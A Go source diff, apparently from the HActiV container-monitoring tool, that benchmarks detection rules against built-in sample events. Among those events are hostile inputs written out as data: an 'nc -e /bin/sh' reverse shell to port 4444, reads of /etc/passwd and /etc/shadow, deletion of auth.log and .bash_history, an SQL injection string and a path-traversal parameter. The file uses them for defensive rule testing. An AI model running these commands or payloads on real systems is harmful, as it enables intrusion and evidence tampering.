@@ -0,0 +1,150 @@
+// Copyright Authors of HActiV
+
+// configs package for Setting and detection rules
+package configs
+
+import (
+	"HActiV/pkg/utils"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"time"
+)
+
+// 규칙 성능 측정에 쓰는 도구별 샘플 이벤트. 정상 이벤트와 규칙에 걸리는 이벤트를 섞어 둔다.
+var sampleEvents = map[string][]utils.Event{
+	"execve": {
+		{Tool: "Systemcall", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4120, Ppid: 4101, ProcessName: "sh", Filename: "/bin/sh", Args: "sh -c php-fpm"},
+		{Tool: "Systemcall", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4121, Ppid: 4120, ProcessName: "ls", Filename: "/bin/ls", Args: "ls -al --color=auto /var/www/html"},
+		{Tool: "Systemcall", ContainerName: "web", Uid: 0, Gid: 0, Pid: 4122, Ppid: 4120, ProcessName: "cat", Filename: "/bin/cat", Args: "cat /etc/passwd; whoami"},
+		{Tool: "Systemcall", ContainerName: "db", Uid: 999, Gid: 999, Pid: 5230, Ppid: 1, ProcessName: "nc", Filename: "/usr/bin/nc", Args: "nc -e /bin/sh 10.0.0.5 4444"},
+		{Tool: "Systemcall", ContainerName: "HActiV-agent", Uid: 0, Gid: 0, Pid: 7001, Ppid: 1, ProcessName: "HActiV", Filename: "/usr/local/bin/HActiV", Args: "HActiV 2 3 4 5 6"},
+	},
+	"open": {
+		{Tool: "file_open", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4120, Ppid: 4101, ProcessName: "php-fpm", Filename: "/var/www/html/index.php", ReturnValue: 3},
+		{Tool: "file_open", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4122, Ppid: 4120, ProcessName: "cat", Filename: "/etc/passwd", ReturnValue: 3},
+		{Tool: "file_open", ContainerName: "db", Uid: 0, Gid: 0, Pid: 5230, Ppid: 1, ProcessName: "bash", Filename: "/etc/shadow", ReturnValue: -13},
+		{Tool: "file_open", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4123, Ppid: 4120, ProcessName: "sh", Filename: "/tmp/payload.sh", ReturnValue: 4},
+	},
+	"delete": {
+		{Tool: "delete", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4120, Ppid: 4101, ProcessName: "php-fpm", Filename: "/tmp/sess_8f2a"},
+		{Tool: "delete", ContainerName: "web", Uid: 0, Gid: 0, Pid: 4124, Ppid: 4120, ProcessName: "rm", Filename: "/var/log/auth.log"},
+		{Tool: "delete", ContainerName: "db", Uid: 0, Gid: 0, Pid: 5231, Ppid: 5230, ProcessName: "rm", Filename: "/root/.bash_history"},
+	},
+	"memory": {
+		{Tool: "Memory", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4120, Ppid: 4101, ProcessName: "php-fpm", Syscall: "mmap", StartAddr: 0x7F3A2C000000, EndAddr: 0x7F3A2C021000, Size: 0x21000, Prottemp: 3, Prot: "PROT_READ|PROT_WRITE", MappingType: "MAP_PRIVATE|MAP_ANONYMOUS"},
+		{Tool: "Memory", ContainerName: "web", Uid: 33, Gid: 33, Pid: 4125, Ppid: 4120, ProcessName: "exploit", Syscall: "mprotect", StartAddr: 0x7FFD1C000000, EndAddr: 0x7FFD1C001000, Size: 0x1000, Prottemp: 7, Prot: "PROT_READ|PROT_WRITE|PROT_EXEC", MappingType: "MAP_PRIVATE"},
+		{Tool: "Memory", ContainerName: "db", Uid: 999, Gid: 999, Pid: 5232, Ppid: 1, ProcessName: "mysqld", Syscall: "mmap", StartAddr: 0x7F0000000000, EndAddr: 0x7F0008000000, Size: 0x8000000, Prottemp: 3, Prot: "PROT_READ|PROT_WRITE", MappingType: "MAP_SHARED"},
+	},
+	"network": {
+		{Tool: "Network_traffic", ContainerName: "web", SrcIp: "172.17.0.2", SrcIpLabel: "web", DstIp: "172.17.0.3", DstIpLabel: "db", Direction: "outgoing", Protocol: "TCP", ProcessName: "php-fpm", SrcPort: 41822, DstPort: 3306, PacketSize: 128, PacketCount: 12, TotalSize: 1536},
+		{Tool: "Network_traffic", ContainerName: "web", SrcIp: "203.0.113.7", SrcIpLabel: "external", DstIp: "172.17.0.2", DstIpLabel: "web", Direction: "incoming", Protocol: "TCP", ProcessName: "nginx", SrcPort: 51234, DstPort: 80, PacketSize: 512, PacketCount: 1, TotalSize: 512, Method: "GET", Host: "shop.example.com", URL: "/item", Parameters: "id=1' or '1'='1' --"},
+		{Tool: "Network_traffic", ContainerName: "web", SrcIp: "203.0.113.9", SrcIpLabel: "external", DstIp: "172.17.0.2", DstIpLabel: "web", Direction: "incoming", Protocol: "TCP", ProcessName: "nginx", SrcPort: 51240, DstPort: 80, PacketSize: 420, PacketCount: 1, TotalSize: 420, Method: "GET", Host: "shop.example.com", URL: "/download", Parameters: "file=../../../../etc/passwd"},
+		{Tool: "Network_traffic", ContainerName: "db", SrcIp: "172.17.0.3", SrcIpLabel: "db", DstIp: "198.51.100.20", DstIpLabel: "external", Direction: "outgoing", Protocol: "TCP", ProcessName: "sh", SrcPort: 40000, DstPort: 4444, PacketSize: 64, PacketCount: 40, TotalSize: 2560},
+	},
+}
+
+type BenchResult struct {
+	File     string
+	Policies int
+	Events   int
+	Matched  int
+	Elapsed  time.Duration
+}
+
+func (r BenchResult) EventsPerSecond() float64 {
+	if r.Elapsed <= 0 {
+		return 0
+	}
+	return float64(r.Events) / r.Elapsed.Seconds()
+}
+
+// 규칙 파일 이름(execverule.json, execverule.yaml 등)으로 어떤 도구의 규칙인지 알아낸다.
+func ruleFileTool(filename string) string {
+	name := filepath.Base(filename)
+	if isYAMLRuleFile(name) {
+		return strings.TrimSuffix(name, "rule.yaml")
+	}
+	return strings.TrimSuffix(name, "rule.json")
+}
+
+func IsSequenceRuleFile(filename string) bool {
+	return ruleFileTool(filename) == "sequence"
+}
+
+// 경로 목록을 규칙 파일 목록으로 펼친다. 디렉터리는 하위까지 *rule.json, *rule.yaml 파일을 찾는다.
+func FindRuleFiles(paths []string) ([]string, error) {
+	return findFiles(paths, func(name string) bool {
+		return strings.HasSuffix(name, "rule.json") || strings.HasSuffix(name, "rule.yaml")
+	})
+}
+
+// 경로 목록을 파일 목록으로 펼친다. 파일은 그대로 두고 디렉터리는 하위까지 match와 일치하는 파일을 찾는다.
+func findFiles(paths []string, match func(name string) bool) ([]string, error) {
+	var files []string
+	for _, path := range paths {
+		info, err := os.Stat(path)
+		if err != nil {
+			return nil, err
+		}
+		if !info.IsDir() {
+			files = append(files, path)
+			continue
+		}
+		err = filepath.Walk(path, func(p string, info os.FileInfo, err error) error {
+			if err != nil {
+				return err
+			}
+			if !info.IsDir() && match(info.Name()) {
+				files = append(files, p)
+			}
+			return nil
+		})
+		if err != nil {
+			return nil, err
+		}
+	}
+	sort.Strings(files)
+	return files, nil
+}
+
+// 규칙 파일을 컴파일한 뒤 샘플 이벤트를 duration 동안 반복 매칭해 처리량을 잰다.
+// 규칙 파일은 수정하지 않으며 액션(print, alert)은 실행하지 않는다. all이면 usage가 false인 규칙도 포함한다.
+func BenchRuleFile(filename string, duration time.Duration, all bool) (BenchResult, error) {
+	result := BenchResult{File: filename}
+
+	events, ok := sampleEvents[ruleFileTool(filename)]
+	if !ok {
+		return result, fmt.Errorf("규칙 파일 이름으로 도구를 알 수 없습니다: %s", filename)
+	}
+	rules, env, err := readRuleFile(filename)
+	if err != nil {
+		return result, err
+	}
+	if all {
+		for i := range rules {
+			rules[i].Usage = true
+		}
+	}
+	policies, ruleErrs := compileRules(rules, env)
+	for i := range rules {
+		if errMsg, ok := ruleErrs[i]; ok {
+			return result, fmt.Errorf("정책 '%s'의 조건이 유효하지 않습니다: %s", rules[i].EventName, errMsg)
+		}
+	}
+	result.Policies = len(policies)
+
+	start := time.Now()
+	for time.Since(start) < duration {
+		for i := range events {
+			if len(matchPolicies(policies, &events[i])) > 0 {
+				result.Matched++
+			}
+		}
+		result.Events += len(events)
+	}
+	result.Elapsed = time.Since(start)
+	return result, nil
+}